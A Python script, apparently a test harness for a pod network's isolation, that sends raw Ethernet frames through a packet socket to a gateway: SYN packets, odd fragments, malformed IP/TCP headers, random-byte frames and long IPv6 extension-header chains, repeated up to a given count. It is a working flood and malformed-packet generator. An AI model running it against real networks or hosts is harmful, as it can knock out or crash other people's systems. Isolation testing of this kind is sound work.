"""Frames that a pod sends to harm others, as many as it is told and as fast as it can.

flood.py KIND COUNT OWN PEER    KIND: syn, fragments, odd, random, extensions; OWN and PEER: addresses of one family

Frames go to the gateway from the pod's own MAC and address. Tries COUNT times; prints `N sent` with those that went.
"""

import os
import random
import socket
import struct
import sys

GATEWAY = bytes.fromhex("0253544e0001")
MTU = 1400


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class Flood:
    def __init__(self, own, peer):
        self.family = socket.AF_INET6 if ":" in own else socket.AF_INET
        self.own = socket.inet_pton(self.family, own)
        self.peer = socket.inet_pton(self.family, peer)
        with open("/sys/class/net/eth0/address") as mac:
            self.mac = bytes.fromhex(mac.read().strip().replace(":", ""))
        self.random = random.Random(1)

    def ethernet(self, packet, kind=None):
        kind = kind or (0x86DD if self.family == socket.AF_INET6 else 0x0800)
        return GATEWAY + self.mac + struct.pack("!H", kind) + packet

    def anybody(self):
        """The peer, or an address near it that may be nobody's."""
        return self.peer[:-1] + self.random.randbytes(1) if self.random.random() < 0.5 else self.peer

    def ip(self, protocol, payload, flags=0, options=b"", ttl=64, length=None):
        if self.family == socket.AF_INET6:
            size = len(payload) if length is None else length
            return struct.pack("!IHBB", 6 << 28, size, protocol, ttl) + self.own + self.anybody() + payload
        words = 5 + len(options) // 4
        size = words * 4 + len(payload) if length is None else length
        head = struct.pack("!BBHHHBBH", 0x40 | words, 0, size & 0xFFFF, self.random.getrandbits(16), flags, ttl,
                           protocol, 0) + self.own + self.anybody() + options
        return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload

    def tcp(self, flags):
        return struct.pack("!HHIIBBHHH", self.random.getrandbits(16), self.random.getrandbits(16),
                           self.random.getrandbits(32), 0, 5 << 4, flags, 1024, 0, 0)

    def syn(self):
        return self.ethernet(self.ip(6, self.tcp(2)))

    def fragments(self):
        payload = self.random.randbytes(8 * self.random.randrange(1, 100))
        offset = self.random.choice((0, self.random.randrange(1, 8191)))
        more = self.random.getrandbits(1)
        if self.family == socket.AF_INET:
            return self.ethernet(self.ip(17, payload, flags=more << 13 | offset))
        head = struct.pack("!BBHI", 17, 0, offset << 3 | more, self.random.getrandbits(32))
        return self.ethernet(self.ip(44, head + payload))

    def odd(self):
        payload = self.tcp(self.random.getrandbits(8)) + self.random.randbytes(self.random.randrange(64))
        options = self.random.randbytes(4 * self.random.randrange(10)) if self.family == socket.AF_INET else b""
        packet = self.ip(self.random.getrandbits(8), payload, options=options, ttl=self.random.choice((0, 1, 64, 255)),
                         length=self.random.choice((None, 0, 1, 65535)))
        return self.ethernet(packet[:self.random.choice((len(packet), 14, 21, 39, 47))])

    def random_bytes(self):
        kind = self.random.choice((0x0800, 0x86DD, 0x0806, 0x8100, self.random.getrandbits(16)))
        return self.ethernet(self.random.randbytes(self.random.randrange(20, MTU)), kind)

    def extensions(self):
        kinds = [self.random.choice((0, 43, 60, 135, 44)) for _ in range(self.random.randrange(1, 24))]
        chain = b""
        for kind, following in zip(kinds, kinds[1:] + [17]):
            chain += struct.pack("!BB", following, 0) + self.random.randbytes(6)
        return self.ethernet(self.ip(kinds[0], chain + self.random.randbytes(16)))


def main():
    kind, count, own, peer = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
    flood = Flood(own, peer)
    make = {"syn": flood.syn, "fragments": flood.fragments, "odd": flood.odd, "random": flood.random_bytes,
            "extensions": flood.extensions}[kind]
    frames = [make() for _ in range(min(count, 2000))]
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind(("eth0", 0))
    tried = sent = 0
    while tried < count:
        for frame in frames:
            tried += 1
            try:
                wire.send(frame)
                sent += 1
            except OSError:
                # The device's queue is full, or the kernel does not send such a frame.
                pass
    print("%d sent" % sent, flush=True)


os.nice(5)
main()
